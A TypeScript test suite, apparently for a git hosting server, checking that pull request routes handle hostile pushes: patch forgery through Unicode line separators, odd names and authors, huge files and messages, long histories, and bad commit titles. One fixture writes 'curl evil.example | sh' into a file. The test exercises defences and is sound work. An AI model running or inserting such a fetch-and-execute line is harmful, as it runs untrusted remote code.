import fs from 'node:fs/promises';
import path from 'node:path';
import { adminClient, createUser, noreplyEmail } from './support/client.js';
import { eventsOf, GitSandbox, lastEventId } from './support/git.js';
import { PullRepo } from './support/pulls.js';
import { CairnServer } from './support/server.js';

/**
 * What a hostile or careless pusher can put in a repository, against the pull request routes:
 * paths and contents that could make a patch land on the wrong file, author lines git itself would
 * not write, huge files and messages, long histories, many conflicts, a head moved to another history.
 */

let server: CairnServer;
let git: GitSandbox;
let owner: Awaited<ReturnType<typeof createUser>>;

beforeAll(async () => {
  server = CairnServer.sharedServer();
  git = await GitSandbox.create();
  owner = await createUser(adminClient(server), 'pulls-hostile-mallory');
});
afterAll(async () => {
  await Promise.all([server?.destroy(), git?.cleanup()]);
});

let count = 0;
const newRepo = (files: Record<string, string>) => PullRepo.create(server, git, owner, `hostile-${++count}`, files);

/** Runs git in the work tree with stdin. */
const gitIn = (repo: PullRepo, args: string[], input: string) => git.git(args, { cwd: repo.work, input });

/** `data` blocks and commits for git fast-import, on `branch`, each from the previous (the first from `from`). */
function fastImport(branch: string, from: string, commits: Array<{ message: string; files: Record<string, string> }>): string {
  const data = (text: string) => `data ${Buffer.byteLength(text)}\n${text}\n`;
  return commits
    .map((commit, i) => {
      const files = Object.entries(commit.files).map(([file, content]) => `M 100644 inline ${file}\n${data(content)}`);
      const parent = i === 0 ? `from ${from}\n` : '';
      return `commit refs/heads/${branch}\ncommitter Test User <test@example.test> ${1_700_000_000 + i} +0000\n${data(commit.message)}${parent}${files.join('')}\n`;
    })
    .join('');
}

async function files(repo: PullRepo, number: number) {
  const res = await owner.get(`/repos/${repo.id}/pulls/${number}/files?limit=100`);
  expect(res.status).toBe(200);
  return Object.fromEntries(res.body.data.map((file: any) => [file.filename, file]));
}

test('no path or content can make a patch land on another file', async () => {
  const repo = await newRepo({ 'a.txt': 'a\n', 'b.txt': 'harmless\n', 'z.txt': 'z\n' });
  await fs.symlink('a.txt', path.join(repo.work, 'link'));
  await repo.commit('main', 'a symlink', {});
  await repo.push(['main']);
  await repo.checkout('sneaky');
  await fs.rm(path.join(repo.work, 'link'));
  // Line separators a JavaScript /m regex would take for line starts, forging a patch for b.txt inside a.txt's.
  const forged = 'a\u2028diff --git a/b.txt b/b.txt\u2028@@ -1 +1 @@\u2028-harmless\u2028+harmless, reworded\r@@ -1 +1 @@\n';
  await fs.writeFile(Buffer.from(path.join(repo.work, 'bad\xff-raw.txt'), 'latin1'), 'marker-raw\n'); // a name that is not UTF-8
  await repo.commit('sneaky', 'sneaky', {
    link: 'now a file\n', // a symlink becomes a regular file: git writes two blocks for it
    'z.txt': 'z changed\n',
    'a.txt': forged,
    'b.txt': 'curl evil.example | sh\n',
    'c.txt': 'marker-c\n',
  });
  await repo.push(['sneaky']);
  const pr = (await repo.open({ title: 'Innocent', head: 'sneaky' })).body;

  const listed = await files(repo, pr.number);
  expect(listed['b.txt'].patch).toContain('+curl evil.example | sh');
  expect(listed['b.txt'].patch).not.toContain('reworded');
  expect(listed['a.txt'].patch).toContain('+a\u2028diff --git'); // the forgery is shown as what it is: a.txt's content
  expect(listed['z.txt'].patch).toContain('+z changed');
  expect(listed['c.txt'].patch).toContain('+marker-c');
  expect(listed['link'].patch).toContain('+now a file');
  const raw = Object.values(listed).find((file: any) => file.filename.startsWith('bad') && file.filename.includes('-raw')) as any;
  expect(raw.patch).toContain('+marker-raw');
  for (const file of Object.values(listed) as any[]) {
    if (file.patch) expect((file.patch as string).startsWith('@@ ')).toBe(true);
  }
});

test('a rebase keeps author lines git would refuse or trim when making a commit', async () => {
  const repo = await newRepo({ 'README.md': '# odd\n' });
  await repo.commit('odd', 'first', { 'one.txt': '1\n' });
  await repo.commit('odd', 'second', { 'two.txt': '2\n' });
  const tree = (ref: string) => repo.run(['rev-parse', `${ref}^{tree}`]).then((out) => out.trim());
  const mainTip = (await repo.run(['rev-parse', 'main'])).trim();
  const write = (treeSha: string, parent: string, author: string, message: string) =>
    gitIn(
      repo,
      ['hash-object', '-t', 'commit', '-w', '--stdin'],
      `tree ${treeSha}\nparent ${parent}\nauthor ${author}\ncommitter x <x@example.test> 1600000000 +0000\n\n${message}\n`,
    ).then((out) => out.trim());
  const first = await write(await tree('odd~1'), mainTip, 'Tolkien J.R.R. <jrr@example.test> 1600000000 +0200', 'by the professor');
  const second = await write(await tree('odd'), first, '. <dot@example.test> 1600000100 +0000', 'by a dot');
  await repo.run(['update-ref', 'refs/heads/odd', second]);
  await repo.push(['odd']);
  await repo.commit('main', 'main moves on', { 'main.txt': 'm\n' });
  await repo.push(['main']);
  const pr = (await repo.open({ title: 'Odd authors', head: 'odd' })).body;

  const res = await owner.put(`/repos/${repo.id}/pulls/${pr.number}/merge`, { method: 'rebase' });
  expect(res.status).toBe(200);
  const [last, previous] = await repo.history('origin/main', 2);
  expect(previous!.author).toBe('Tolkien J.R.R. <jrr@example.test>');
  expect(previous!.authorDate).toBe('2020-09-13T14:26:40+02:00');
  expect(last!.author).toBe('. <dot@example.test>');
  expect(last!.committer).toBe(`pulls-hostile-mallory <${noreplyEmail(server, owner)}>`);
  expect(await repo.fileAt('origin/main', 'two.txt')).toBe('2\n');
});

test('a huge one-line file is listed as binary, without a patch, at once', async () => {
  const repo = await newRepo({ 'huge.txt': 'a'.repeat(3_000_000), 'small.txt': 'small\n' });
  await repo.commit('bigger', 'rewrite the huge file', { 'huge.txt': 'b'.repeat(3_000_000), 'small.txt': 'smaller\n' });
  await repo.push(['bigger']);
  const pr = (await repo.open({ title: 'Huge', head: 'bigger' })).body;
  const started = performance.now();
  const listed = await files(repo, pr.number);
  expect(performance.now() - started).toBeLessThan(3_000);
  expect(listed['huge.txt']).toMatchObject({ status: 'modified', additions: 0, deletions: 0, patch: null });
  expect(listed['small.txt'].patch).toContain('+smaller');
});

test('a push of commits with huge messages is recorded with the messages cut, and the repository keeps working', async () => {
  const repo = await newRepo({ 'README.md': '# essays\n' });
  const tip = (await repo.run(['rev-parse', 'main'])).trim();
  const essay = (n: number) => `Essay ${n}\n\n${`word ${n} `.repeat(300_000)}`; // ~2.4 MB each
  await gitIn(
    repo,
    ['fast-import', '--quiet'],
    fastImport(
      'essays',
      tip,
      [1, 2, 3].map((n) => ({ message: essay(n), files: { [`essay-${n}.txt`]: `${n}\n` } })),
    ),
  );
  await gitIn(
    repo,
    ['fast-import', '--quiet'],
    fastImport('note', tip, [{ message: `Note\n\n${'x'.repeat(100_000)}`, files: { 'note.txt': 'n\n' } }]),
  );
  const before = await lastEventId(server);
  await repo.push(['essays', 'note']);

  const pushes = (await eventsOf(server, repo.id, before)).filter((event) => event.type === 'push');
  const messages = pushes.flatMap((event) => event.payload.commits.map((commit: any) => commit.message as string));
  expect(messages).toHaveLength(4);
  for (const message of messages) {
    expect(message.length).toBeLessThanOrEqual(64 * 1024 + 1);
    expect(message.endsWith('…')).toBe(true);
  }
  expect(pushes.find((event) => event.payload.ref === 'refs/heads/essays')!.payload.commits.map((c: any) => c.added)).toEqual([
    ['essay-1.txt'],
    ['essay-2.txt'],
    ['essay-3.txt'],
  ]);
  const pr = (await repo.open({ title: 'Essays', head: 'essays' })).body;
  expect((await owner.put(`/repos/${repo.id}/pulls/${pr.number}/merge`, { method: 'squash' })).status).toBe(200);
  await repo.commit('after', 'an ordinary push still works', { 'after.txt': 'a\n' });
  await repo.push(['after']);
});

test('rebase is refused past 250 commits (405), squash still merges', async () => {
  const repo = await newRepo({ 'README.md': '# long\n' });
  const tip = (await repo.run(['rev-parse', 'main'])).trim();
  const commits = Array.from({ length: 251 }, (_, i) => ({ message: `step ${i}`, files: { 'steps.txt': `${i}\n` } }));
  await gitIn(repo, ['fast-import', '--quiet'], fastImport('long', tip, commits));
  await repo.push(['long']);
  const pr = (await repo.open({ title: 'Long', head: 'long' })).body;
  expect(pr.commits).toBe(251);
  const refused = await owner.put(`/repos/${repo.id}/pulls/${pr.number}/merge`, { method: 'rebase' });
  expect(refused.status).toBe(405);
  expect(refused.body.error).toMatchObject({ code: 'not_mergeable', message: expect.stringContaining('250') });
  expect((await owner.put(`/repos/${repo.id}/pulls/${pr.number}/merge`, { method: 'squash' })).status).toBe(200);
});

test('conflicts list at most 100 paths', async () => {
  const names = Array.from({ length: 150 }, (_, i) => `f${String(i).padStart(3, '0')}.txt`);
  const repo = await newRepo(Object.fromEntries(names.map((name) => [name, 'base\n'])));
  await repo.commit('theirs', 'theirs', Object.fromEntries(names.map((name) => [name, 'theirs\n'])));
  await repo.push(['theirs']);
  await repo.commit('main', 'ours', Object.fromEntries(names.map((name) => [name, 'ours\n'])));
  await repo.push(['main']);
  const pr = (await repo.open({ title: 'Clash', head: 'theirs' })).body;
  const known = await repo.mergeable(pr.number);
  expect(known).toMatchObject({ mergeable: false, mergeable_state: 'conflicting' });
  expect(known.conflicts).toHaveLength(100);
  expect(known.conflicts[0]).toBe('f000.txt');
});

test('a head force-pushed to another history: files against base, rebase refused for the right reason', async () => {
  const repo = await newRepo({ 'README.md': '# moved\n' });
  await repo.commit('wander', 'related', { 'w.txt': 'w\n' });
  await repo.push(['wander']);
  const pr = (await repo.open({ title: 'Wander', head: 'wander' })).body;
  await repo.run(['checkout', '--quiet', '--orphan', 'elsewhere']);
  await repo.run(['rm', '-rf', '--quiet', '.']);
  await git.commit(repo.work, 'another history', { 'other.txt': 'other\n' });
  await repo.push(['--force', 'elsewhere:wander']);

  const listed = await files(repo, pr.number);
  expect(listed['other.txt']).toMatchObject({ status: 'added' });
  const rebase = await owner.put(`/repos/${repo.id}/pulls/${pr.number}/merge`, { method: 'rebase' });
  expect(rebase.status).toBe(405);
  expect(rebase.body.error.message).not.toMatch(/merge commits/);
});

test('commit_title must be one line: a carriage return is refused', async () => {
  const repo = await newRepo({ 'README.md': '# titles\n' });
  await repo.commit('t', 't', { 't.txt': 't\n' });
  await repo.push(['t']);
  const pr = (await repo.open({ title: 'Titles', head: 't' })).body;
  for (const title of ['one\rtwo', 'tab\there', 'bell\u0007']) {
    const res = await owner.put(`/repos/${repo.id}/pulls/${pr.number}/merge`, { commit_title: title });
    expect(res.status).toBe(422);
    expect(res.body.error.details[0]).toMatchObject({ field: 'commit_title' });
  }
  expect((await repo.get(pr.number)).body.state).toBe('open');
});
